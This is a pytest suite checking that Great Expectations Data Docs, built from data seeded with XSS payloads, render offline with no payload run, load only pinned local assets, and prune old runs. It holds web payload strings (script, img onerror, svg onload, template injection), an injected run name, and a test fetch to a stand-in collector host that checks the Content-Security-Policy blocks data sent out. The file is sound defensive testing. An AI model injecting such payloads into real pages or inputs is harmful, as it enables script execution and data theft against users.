"""Data Docs offline and safe: a real GX validation of values carrying script payloads (and a run name carrying
one), the site built by GXRunner, then opened in headless Chromium with the network off; retention of the last
drops; the post-build check failing loudly."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import great_expectations as gx
import great_expectations.expectations as gxe
import pandas as pd
import pytest

from browser import needs_chromium, open_offline
from quality import data_docs
from quality.gx_runner import GXRunner

PAYLOADS = ("<script>window.__xss='script'</script>",
            "<img src=x onerror=window.__xss='img'>",
            "\"'><svg onload=window.__xss='svg'>",
            "\\';window.__xss='js';//`${window.__xss='tpl'}`")
RUN_NAME = "drop\" <img src=x onerror=window.__xss='run'> '"  # a drop folder's name (GX refuses / and \\)
FIELDS = ("sex", "echo_pasp_mmhg", "mrss_date", "hrct_extent_pct", "record_id")
# what the pages must show: Bootstrap's CSS applied, bootstrap-table and Vega loaded, Font Awesome's font ready
# where its icons are used, no payload run, the payloads shown as text; and the directive of the page's
# Content-Security-Policy that stops a script sending data out
PAGE_STATE = """new Promise(resolve => {
  document.addEventListener('securitypolicyviolation', e => resolve(e.violatedDirective), {once: true});
  fetch('http://collector.invalid/?leak=1').catch(() => {});
}).then(csp => ({
  csp: csp,
  xss: window.__xss === undefined ? null : String(window.__xss),
  title: document.title,
  font: getComputedStyle(document.body).fontFamily,
  table: typeof jQuery === 'function' && typeof jQuery.fn.bootstrapTable,
  vega: typeof vegaEmbed,
  icons: document.querySelectorAll('.fas, .far').length === 0
         || document.fonts.check('900 16px "Font Awesome 6 Free"'),
  text: document.body.innerText,
}))"""


def _suite(name: str) -> gx.ExpectationSuite:
    suite = gx.ExpectationSuite(name=name)
    suite.add_expectation(gxe.ExpectColumnValuesToBeInSet(column="sex", value_set=["1", "2"]))
    suite.add_expectation(gxe.ExpectColumnValuesToMatchRegex(column="echo_pasp_mmhg", regex=r"^\d+(\.\d+)?$"))
    suite.add_expectation(gxe.ExpectColumnValuesToMatchStrftimeFormat(column="mrss_date", strftime_format="%Y-%m-%d"))
    suite.add_expectation(gxe.ExpectColumnValuesToMatchRegex(column="hrct_extent_pct", regex=r"^\d+$"))
    suite.add_expectation(gxe.ExpectColumnValuesToMatchRegex(column="record_id", regex=r"^\d+$"))
    return suite


def _frame() -> pd.DataFrame:
    rows = [{"_source_row": 2 + i, **{f: payload for f in FIELDS}} for i, payload in enumerate(PAYLOADS)]
    rows.append({"_source_row": 9, "record_id": "7", "sex": "1", "echo_pasp_mmhg": "31",
                 "mrss_date": "2020-01-02", "hrct_extent_pct": "12"})
    return pd.DataFrame(rows)


@pytest.fixture(scope="module")
def site(tmp_path_factory) -> Path:
    home = tmp_path_factory.mktemp("ssc_home")
    runner = GXRunner(home / "gx", home / "data_docs", run_name=RUN_NAME)
    run = runner.validate(_suite("enrollment.payloads"), _frame(), index_columns=["_source_row", "record_id"])
    assert not run.success
    assert runner.build_docs() == home / "data_docs" / "index.html"
    return home / "data_docs"


def _pages(site: Path) -> list[Path]:
    pages = [site / "index.html", *sorted((site / "validations").rglob("*.html")),
             *sorted((site / "expectations").rglob("*.html"))]
    assert len(pages) == 3, pages
    return pages


@needs_chromium
@pytest.mark.browser
def test_data_docs_open_offline_styled_with_no_payload_run(site, tmp_path):
    for report in open_offline(tmp_path, [page.as_uri() for page in _pages(site)], PAGE_STATE):
        page, state = report["url"], report["value"]
        assert report["failed"] == [], page
        assert [url for url in report["requests"] if not url.startswith(("file://", "data:"))] == [], page
        assert report["exceptions"] == [] and report["log"] == [], page
        assert state["xss"] is None and "xss" not in state["title"], page
        assert state["font"].startswith("-apple-system"), page  # Bootstrap's reboot, not the browser's serif
        assert state["table"] == "function" and state["vega"] == "function" and state["icons"], page
        assert state["csp"] == "connect-src", page
        if "/validations/" in page:  # the values shown as text, each where GX puts it
            assert all(payload in state["text"] for payload in PAYLOADS), page
            assert RUN_NAME in state["text"], page
        if page.endswith("index.html"):  # the run name in bootstrap-table's cells
            assert RUN_NAME in state["text"]


def test_pages_load_only_the_checked_in_assets(site):
    manifest = json.loads(data_docs.MANIFEST.read_text())
    for row in manifest:  # the checked-in files are the ones the manifest pins
        assert hashlib.sha256((data_docs.ASSETS / row["path"]).read_bytes()).hexdigest() == row["sha256"]
        assert (site / data_docs.VENDOR / row["path"]).read_bytes() == (data_docs.ASSETS / row["path"]).read_bytes()
    for package, version in {(row["package"], row["version"]) for row in manifest}:
        assert any(row["package"] == package and row["version"] == version and "/" not in row["file"]
                   for row in manifest), f"{package}@{version} has no licence file"
    for page in _pages(site):
        html = page.read_text()
        assert "cdn" not in html and "unpkg" not in html and "amazonaws" not in html, page
        assert data_docs.CSP_TAG in html
        data_docs.check_page(page)


def test_the_check_names_the_page_and_the_url_left_on_the_network(tmp_path):
    page = tmp_path / "p.html"
    page.write_text('<html><head><link rel="stylesheet" href="//cdn.example.org/x.css"></head></html>')
    with pytest.raises(data_docs.DataDocsError, match=r"p\.html loads //cdn\.example\.org/x\.css"):
        data_docs.check_page(page)
    page.write_text('<html><head><style>body {background: url("https://s3.example.org/a.png")}</style></head>')
    with pytest.raises(data_docs.DataDocsError, match=r"https://s3\.example\.org/a\.png \(<style>\)"):
        data_docs.check_page(page)
    page.write_text('<html><body><script src="static-vendor/gone.js"></script></body></html>')
    with pytest.raises(data_docs.DataDocsError, match="gone.js.*missing"):
        data_docs.check_page(page)
    page.write_text('<html><body><a href="https://greatexpectations.io">GX</a></body></html>')
    data_docs.check_page(page)  # a link is not a load


def test_only_the_last_drops_are_kept(tmp_path):
    home = tmp_path
    for drop in ("drop-1", "drop-2", "drop-3"):
        runner = GXRunner(home / "gx", home / "data_docs", run_name=drop)
        runner.validate(_suite("demo"), _frame().head(1))
        runner.build_docs()
    assert {p.parts[-3] for p in (home / "data_docs" / "validations").rglob("*.html")} == {
        "drop-1", "drop-2", "drop-3"}
    assert data_docs.prune(runner.context, home / "data_docs", keep=2) == ["drop-1"]
    assert {k.run_id.run_name for k in runner.context.validation_results_store.list_keys()} == {"drop-2", "drop-3"}
    assert not (home / "data_docs" / "validations" / "demo" / "drop-1").exists()
    assert not list((home / "gx").rglob("drop-1"))
    runner.validate(_suite("demo"), _frame().head(1))
    runner.build_docs()  # the index no longer lists drop-1
    index = (home / "data_docs" / "index.html").read_text()
    assert "drop-1" not in index and "drop-2" in index and "drop-3" in index
